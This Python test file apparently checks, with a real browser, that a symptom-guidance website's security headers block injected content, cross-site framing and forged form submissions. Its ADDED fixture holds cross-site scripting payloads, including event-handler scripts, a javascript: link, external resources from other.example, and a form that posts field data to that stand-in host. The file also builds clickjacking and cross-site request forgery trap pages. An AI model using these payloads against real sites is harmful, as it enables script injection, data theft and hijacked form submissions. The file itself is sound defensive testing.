"""The headers, by what they do: a real browser is shown our own pages with an attacker's additions, and other sites."""

import pytest

OTHER = "http://other.example"
ADDED = f"""
<script>document.title = "foreign"</script>
<script src="{OTHER}/script.js"></script>
<img src="{OTHER}/picture.png" onerror="document.title = 'foreign'">
<svg onload="document.title = 'foreign'"></svg>
<iframe src="{OTHER}/frame"></iframe>
<style>h1 {{ display: none }}</style>
<p id="painted" style="color: rgb(1, 2, 3)">painted</p>
<link rel="stylesheet" href="{OTHER}/style.css">
<base href="{OTHER}/">
<a id="script" href="javascript:document.title='foreign'">script</a>
<form id="away" action="{OTHER}/taken" method="post"><input name="x" value="seizure"></form>
<a id="link" href="{OTHER}/seen">out</a>
"""


@pytest.fixture
def tab(browser, server):
    """A tab in which our pages carry ADDED, under our own headers. `tab.asked`: what was wanted of the other site."""
    context = browser.new_context(base_url=server)
    context.set_default_timeout(10_000)
    page, asked = context.new_page(), []

    def add(route):
        response = route.fetch()
        if "text/html" not in response.headers["content-type"]:
            return route.fulfill(response=response)
        body = response.text()
        assert "</main>" in body
        return route.fulfill(response=response, body=body.replace("</main>", ADDED + "</main>"))

    def other(route):
        asked.append(route.request)
        route.fulfill(body="the other site", content_type="text/html")

    context.route(f"{server}/**", add)
    context.route(f"{OTHER}/**", other)
    page.asked = asked
    yield page
    context.close()


def open_guidance(page):
    page.goto("/self")
    page.locator('input[name="q_symptoms"][value="seizure"]').check()
    page.locator("main form button").first.click()
    page.wait_for_selector("#emergency")


@pytest.mark.parametrize("path", ["/", "/self", "/privacy", "/nowhere", "the guidance"])
def test_no_script_style_or_file_but_ours_is_used(tab, path):
    if path == "the guidance":
        open_guidance(tab)
    else:
        tab.goto(path)
    title = tab.title()
    tab.locator("#script").click()
    assert title == tab.title() != "foreign"
    assert [request.url for request in tab.asked] == []
    assert tab.locator("h1").is_visible()
    assert tab.locator("#painted").evaluate("one => getComputedStyle(one).color") != "rgb(1, 2, 3)"
    assert tab.evaluate("document.baseURI").startswith(tab.url)


def test_our_own_script_and_style_run(tab):
    open_guidance(tab)
    assert tab.locator("[data-print]:visible").count() > 0, "script.js shows what only works with it"
    assert tab.evaluate("document.styleSheets[0].cssRules.length") > 10


@pytest.mark.parametrize(("how", "refused"), [("requestSubmit", "connect-src"), ("submit", "form-action")])
def test_a_form_sends_answers_nowhere_else(tab, how, refused):
    """Neither when the inline script fetches the answer, nor when the browser sends the form itself."""
    tab.goto("/self")
    told = tab.evaluate(
        """how => new Promise(done => {
            addEventListener("securitypolicyviolation", event => done(event.effectiveDirective))
            document.querySelector("#away")[how]()
        })""",
        how,
    )
    assert told == refused
    assert [request.url for request in tab.asked] == []
    assert tab.url.endswith("/self")


def test_another_site_does_not_learn_where_a_reader_comes_from(tab):
    open_guidance(tab)
    tab.locator("#link").click()
    tab.wait_for_url(f"{OTHER}/seen")
    assert "referer" not in tab.asked[0].headers


def test_no_site_can_show_our_pages_as_a_part_of_its_own(tab, server):
    page = f'<iframe src="{server}/self"></iframe><object data="{server}/self"></object><embed src="{server}/self">'
    tab.route(f"{OTHER}/trap", lambda route: route.fulfill(body=page, content_type="text/html"))
    tab.goto(f"{OTHER}/trap")
    tab.wait_for_load_state("networkidle")
    inside = [frame for frame in tab.frames if frame != tab.main_frame]
    assert inside
    assert [frame.url for frame in inside if frame.url.startswith(server)] == []
    assert [frame for frame in inside if frame.locator("form").count()] == []


def test_no_site_can_have_us_answer_a_sheet_that_it_filled_in(tab, server):
    fields = '<input name="q_symptoms" value="seizure"><button>Go</button>'
    sheet = f'<form action="{server}/self" method="post">{fields}</form>'
    tab.route(f"{OTHER}/trap", lambda route: route.fulfill(body=sheet, content_type="text/html"))
    tab.goto(f"{OTHER}/trap")
    with tab.expect_response(f"{server}/self") as answer:
        tab.locator("button").click()
    assert answer.value.status == 403
    assert tab.locator("#emergency").count() == 0
